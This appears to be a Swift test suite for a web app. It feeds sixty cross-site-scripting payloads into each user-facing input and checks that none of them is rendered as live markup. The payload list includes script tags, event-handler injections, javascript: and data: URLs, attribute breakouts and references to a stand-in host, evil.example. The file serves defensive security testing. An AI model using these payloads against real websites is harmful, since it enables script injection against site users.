// This source file is part of the Wayfinder project.
// Copyright (c) 2026 the Wayfinder project authors
// SPDX-License-Identifier: Apache-2.0

import MomentsContainer
import Testing

@Suite("Injection of markup")
struct InjectionTests {
  /// An input whose text is shown on a page.
  enum Door: String, CaseIterable, Sendable {
    case path, query, message, name, offer, inspectedLink, explainedLink, origin, panel, tab,
      language

    /// Sends a string through this input.
    ///
    /// - Returns: The resulting page.
    fileprivate func carry(_ text: String, _ browser: Browser) async throws -> String {
      switch self {
      case .path: try await browser.go(to: "/nowhere/" + text.percentEncoded)
      case .query: try await browser.go(to: "/mall?under=" + text.percentEncoded)
      case .offer: try await browser.go(to: "/chat/ben?about=" + text.percentEncoded)
      case .message:
        try await browser.go(to: "/chat/ben")
        try await browser.tap("Send", filling: ["message": text])
      case .name:
        try await browser.go(to: "/me/settings")
        try await browser.tap("Sign out")
        try await browser.go(to: "/me")
        try await browser.tap("Sign in", filling: ["name": text])
      case .inspectedLink:
        try await browser.post("/_inspect", ["inspect": "open", "link": text, "origin": "scan"])
      case .explainedLink:
        let fields = ["inspect": "explain", "link": "/" + text, "origin": "universal"]
        try await browser.post("/_inspect", fields)
      case .origin:
        try await browser.post("/_inspect", ["inspect": "open", "link": "/", "origin": text])
      case .panel: try await browser.post("/_inspect", ["panel": text, "scenario": text])
      case .tab: try await browser.post("/_tab", ["tab": text])
      case .language:
        let language = text.filter { $0.isASCII && $0 >= " " }
        return try await Browser(browser.client, at: "/mall", language: language).page.text
      }
      return browser.page.text
    }
  }

  @Test("No text becomes markup, from any input", arguments: Door.allCases)
  func injection(door: Door) async throws {
    try await withApp { client in
      let browser = try await Browser(client, at: "/chat/ben")
      try await browser.tap("Sign in", filling: ["name": "Robin"])
      for text in Self.texts {
        let page = try await door.carry(text, browser)
        #expect(page.hasSuffix("</html>\n"), "\(text)")
        #expect(Markup(page).intruders == [], "\(text)")
      }
    }
    print("markup: \(Self.texts.count) pages")
  }

  @Test("The check detects each text in an unescaped page", arguments: texts)
  func control(text: String) async throws {
    let page = try await visit("/mall").text
    let begin = try #require(page.firstRange(of: "<main>")).upperBound
    var inText = page
    inText.insert(contentsOf: text, at: begin)
    let field = try #require(page.firstRange(of: "name=\"token\" value=\"")).upperBound
    var inAttribute = page
    inAttribute.insert(contentsOf: text, at: field)
    let found = Markup(inText).intruders + Markup(inAttribute).intruders
    #expect(!found.isEmpty || Self.onlyInSingleQuotes.contains(text))
  }

  @Test("There are sixty different texts")
  func number() {
    #expect(Set(Self.texts).count == 60)
  }

  /// The strings to inject.
  ///
  /// Each string contains the marker that ``Markup`` searches for in markup.
  static let texts: [String] =
    [
      #"<script>pwn()</script>"#, #"<SCRIPT SRC=//evil.example/pwn.js></SCRIPT>"#,
      #"<scr<script pwn>ipt>pwn()</scr</script>ipt>"#, #"<script/pwn>pwn()</script>"#,
      "<script\n>pwn()</script\n>", #"<img src=x onerror=pwn()>"#,
      #"<img src="x" onerror="pwn()">"#,
      #"<IMG """><SCRIPT>pwn()</SCRIPT>">"#, #"<img/src='x'/onerror='pwn()'>"#,
      "<img\tsrc=x\tonerror=pwn()>", "<img src=x\u{0C}onerror=pwn()>", #"<svg onload=pwn()>"#,
      #"<svg/onload=pwn()>"#, #"<svg><script>pwn()</script></svg>"#,
      #"<svg><a href="javascript:pwn()"><text>x</text></a></svg>"#,
      #"<math href="javascript:pwn()">x</math>"#, #"<iframe src="javascript:pwn()"></iframe>"#,
      #"<iframe srcdoc="<script>pwn()</script>"></iframe>"#,
      #"<object data="javascript:pwn()"></object>"#, #"<embed src="javascript:pwn()">"#,
      #"<a href="javascript:pwn()">x</a>"#,
      #"<a href="data:text/html,<script>pwn()</script>">x</a>"#,
      #"<a href="&#106;avascript:pwn()">x</a>"#, #"<base href="//evil.example/pwn/">"#,
      #"<meta http-equiv="refresh" content="0;url=//evil.example/pwn">"#,
      #"<link rel="stylesheet" href="//evil.example/pwn.css">"#,
      #"<style>@import "//evil.example/pwn.css"</style>"#,
      #"<div style="background:url(//evil.example/pwn)">"#, #"<body onload=pwn()>"#,
      #"<form action="//evil.example/pwn"><button>x</button></form>"#,
      #"<button formaction="//evil.example/pwn">x</button>"#,
      #"<input autofocus onfocus=pwn()>"#, #"<details open ontoggle=pwn()>"#,
      #"<video><source onerror=pwn()></video>"#, #"<marquee onstart=pwn()>"#,
      #"<template><pwn></template>"#,
      #"<noscript><p title="</noscript><img src=x onerror=pwn()>">"#,
      #""><script>pwn()</script>"#, #"'><script>pwn()</script>"#, #"" onmouseover="pwn()"#,
      #"" autofocus onfocus="pwn()" x=""#, #"" style="pwn:1" x=""#, #""><b class=pwn>"#,
      #"</title><script>pwn()</script>"#, #"</textarea><script>pwn()</script>"#,
      #"</main></div></body></html><script>pwn()</script>"#, #"<!-- --><script>pwn()</script>"#,
      #"--><script>pwn()</script>"#, #"<![CDATA[<script pwn>]]>"#,
      #"<?xml?><script>pwn()</script>"#, #"{{{pwn}}}<i id=pwn>"#, #"{{#pwn}}<i id=pwn>{{/pwn}}"#,
      "\u{301}\"><img src=x onerror=pwn()>", "\"\u{301}><img src=x onerror=pwn()>",
      "<\u{200D}script><u class=pwn>", "<u\u{0}class=pwn><u class=pwn>",
      #"https://momentsapp.com/"><script>pwn()</script>"#,
      #"moments://x/<img src=x onerror=pwn()>"#, #"https://evil.example/' onclick='pwn()"#,
      #"javascript:pwn()//"><s id=pwn>"#,
    ]

  /// The strings that can break out only of attributes in single quotes.
  ///
  /// The pages have no such attributes.
  private static let onlyInSingleQuotes: Set<String> = [#"https://evil.example/' onclick='pwn()"#]
}

extension String {
  /// The text with percent-encoding for a path or a query (RFC 3986, 2.1).
  fileprivate var percentEncoded: String {
    utf8.map { byte in
      let isLetter = UInt8(ascii: "a")...UInt8(ascii: "z") ~= byte
      let digits = String(byte, radix: 16)
      return isLetter ? String(UnicodeScalar(byte)) : "%" + (byte < 16 ? "0" : "") + digits
    }.joined()
  }
}
